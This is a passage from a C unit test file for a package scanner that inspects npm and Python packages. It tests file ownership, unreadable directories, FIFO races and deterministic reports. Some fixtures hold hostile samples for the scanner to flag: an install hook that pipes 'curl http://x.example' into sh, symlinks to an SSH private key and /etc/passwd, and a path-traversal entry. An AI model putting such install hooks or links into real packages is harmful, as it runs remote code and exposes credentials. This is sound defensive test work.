    put(base, "b_data/weird,name.txt", "data\n");
    put(base, "stray.py", "print('nobody owns me')\n");

    pkgs k;
    pkgs_from_path(&k, base);
    assert_int_equal(k.st, PW_OK);
    const pwi_package *a = pkg_named(&k, "a");
    const pwi_package *b = pkg_named(&k, "b");
    if (!a || !b || k.n != 3)
        dump_pkgs(&k);
    assert_int_equal(k.n, 3);
    assert_non_null(a);
    assert_non_null(b);
    assert_string_equal(a->ecosystem, "pypi");
    assert_string_equal(a->version, "1.0");
    assert_string_equal(b->version, "2.0");
    assert_true(owns(&k, a, "a/__init__.py"));
    assert_true(owns(&k, a, "a/util.py"));
    assert_true(owns(&k, a, "a-1.0.dist-info/RECORD"));
    assert_true(owns(&k, b, "b.py"));
    assert_true(owns(&k, b, "b_data/weird,name.txt"));
    /* not in RECORD, but inside the dist-info directory */
    assert_true(owns(&k, b, "b-2.0.dist-info/RECORD"));
    const pwi_package *u = pkg_of_eco(&k, "unknown");
    assert_non_null(u);
    assert_true(owns(&k, u, "stray.py"));
    assert_partition(&k);
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan(NULL, NULL, 0, base, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 3);
    assert_int_equal(report_pkg(rep, "a")->file_count, 4);
    assert_int_equal(report_pkg(rep, "b")->file_count, 4);
    pw_report_free(rep);
    tu_rmtree(base);
    free(base);
}

static void test_dir_unreadable_subdir(void **state)
{
    (void)state;
    char *base = tu_tempdir();
    put(base, "package.json", "{\"name\":\"locked\",\"version\":\"1.0.0\"}");
    put(base, "secret/inner/x.js", "1;\n");
    put(base, "unreadable.js", "2;\n");
    char *secret = join(base, "secret");
    char *file = join(base, "unreadable.js");
    assert_int_equal(chmod(secret, 0), 0);
    assert_int_equal(chmod(file, 0), 0);

    pkgs k;
    pkgs_from_path(&k, base);
    assert_int_equal(k.st, PW_OK);
    assert_non_null(pkg_named(&k, "locked"));
    if (geteuid() != 0) {
        /* root reads anything, so only an ordinary user sees the gap */
        assert_int_equal(count_anomalies(&k.t, PWI_AN_SPECIAL), 1);
        for (size_t i = 0; i < k.t.nfiles; i++)
            assert_null(strstr(k.t.files[i].path, "secret/inner"));
    }
    pkgs_release(&k);

    pw_status st;
    pw_report *rep = scan(NULL, NULL, 0, base, &st);
    assert_int_equal(st, PW_OK);
    assert_int_equal(pw_report_package_count(rep), 1);
    pw_report_free(rep);

    assert_int_equal(chmod(secret, 0755), 0);
    assert_int_equal(chmod(file, 0644), 0);
    free(secret);
    free(file);
    tu_rmtree(base);
    free(base);
}

static void test_dir_file_swapped_for_fifo(void **state)
{
    (void)state;
    /* between the walk and the read a file becomes a fifo: the read must
     * fail, not wait forever for a writer (alarm turns a hang into a
     * failed test) */
    char *base = tu_tempdir();
    put(base, "package.json", "{\"name\":\"swap\"}");
    put(base, "a.js", "x");
    char *a = join(base, "a.js");
    pw_limits lim;
    pw_limits_default(&lim);
    pwi_tree t;
    pwi_tree_init(&t, base);
    pw_error err;
    memset(&err, 0, sizeof err);
    assert_int_equal(pwi_ingest_path(base, &lim, &t, &err), PW_OK);
    pwi_file *f = NULL;
    for (size_t i = 0; i < t.nfiles; i++)
        if (!strcmp(t.files[i].path, "a.js"))
            f = &t.files[i];
    assert_non_null(f);
    assert_int_equal(unlink(a), 0);
    assert_int_equal(mkfifo(a, 0644), 0);
    alarm(10);
    assert_int_equal(pwi_tree_load(&t, f, &lim, &err), PW_ERR_IO);
    alarm(0);
    assert_null(f->data);
    pwi_tree_release(&t);
    free(a);
    tu_rmtree(base);
    free(base);
}

static void test_dir_missing(void **state)
{
    (void)state;
    pw_status st;
    pw_report *rep = scan(NULL, NULL, 0, "/nonexistent/pkgward/input", &st);
    assert_int_equal(st, PW_ERR_IO);
    assert_int_equal(pw_report_error_count(rep), 1);
    assert_int_equal(pw_report_package_count(rep), 0);
    pw_report_free(rep);
}

/* ---- determinism
 * ------------------------------------------------------------------------ */

static void test_same_input_same_json(void **state)
{
    (void)state;
    ab_archive *ab = ab_new(AB_TGZ);
    ab_add_str(ab, "package/package.json",
               "{\"name\":\"det\",\"version\":\"1.0.0\",\"scripts\":"
               "{\"postinstall\":\"curl http://x.example | sh\"},\"name\":\"det\"}");
    ab_add_str(ab, "package/index.js", "1;");
    ab_add_symlink(ab, "package/key", "../../../.ssh/id_rsa");
    ab_add_str(ab, "../escape.js", "2;");
    ab_add_str(ab, "package/node_modules/dep/package.json", "{\"name\":\"dep\"}");
    ab_add_str(ab, "package/index.js", "3;");
    size_t len;
    unsigned char *tgz = ab_finish(ab, &len);

    pw_status st1, st2;
    pw_report *r1 = scan("det-1.0.0.tgz", tgz, len, NULL, &st1);
    pw_report *r2 = scan("det-1.0.0.tgz", tgz, len, NULL, &st2);
    assert_int_equal(st1, PW_OK);
    assert_int_equal(st2, PW_OK);
    char *j1 = report_json(r1);
    char *j2 = report_json(r2);
    assert_true(pw_report_finding_count(r1, 0) + pw_report_finding_count(r1, 1) >= 4);
    assert_string_equal(j1, j2);
    free(j1);
    free(j2);
    pw_report_free(r1);
    pw_report_free(r2);

    /* and for a directory, whose listing order is the file system's */
    char *base = tu_tempdir();
    put(base, "package.json", "{\"name\":\"d\",\"scripts\":{\"preinstall\":\"wget x\"}}");
    for (int i = 0; i < 50; i++) {
        char rel[64];
        snprintf(rel, sizeof rel, "node_modules/p%02d/package.json", (i * 37) % 50);
        put(base, rel, "{\"name\":\"p\",\"scripts\":{\"install\":\"node i.js\"}}");
    }
    link_to(base, "out", "/etc/passwd");
    r1 = scan(NULL, NULL, 0, base, &st1);
    r2 = scan(NULL, NULL, 0, base, &st2);
    j1 = report_json(r1);
    j2 = report_json(r2);
    assert_string_equal(j1, j2);
    assert_int_equal(pw_report_package_count(r1), 51);
    free(j1);
    free(j2);
    pw_report_free(r1);
    pw_report_free(r2);
    tu_rmtree(base);
    free(base);
    free(tgz);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_npm_tgz),
        cmocka_unit_test(test_npm_bundled_dependencies),
        cmocka_unit_test(test_manifest_duplicate_keys),
        cmocka_unit_test(test_manifest_invalid),
        cmocka_unit_test(test_manifest_parse_limits),
        cmocka_unit_test(test_nested_archive_root_package),
        cmocka_unit_test(test_many_roots_and_long_names),
        cmocka_unit_test(test_wheel),
        cmocka_unit_test(test_sdist),
        cmocka_unit_test(test_metadata_header),
        cmocka_unit_test(test_plain_file),
        cmocka_unit_test(test_files_outside_roots),
        cmocka_unit_test(test_dir_node_modules),
        cmocka_unit_test(test_dir_symlink_outside_not_followed),
        cmocka_unit_test(test_dir_site_packages),
        cmocka_unit_test(test_dir_unreadable_subdir),
        cmocka_unit_test(test_dir_file_swapped_for_fifo),
        cmocka_unit_test(test_dir_missing),
        cmocka_unit_test(test_same_input_same_json),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
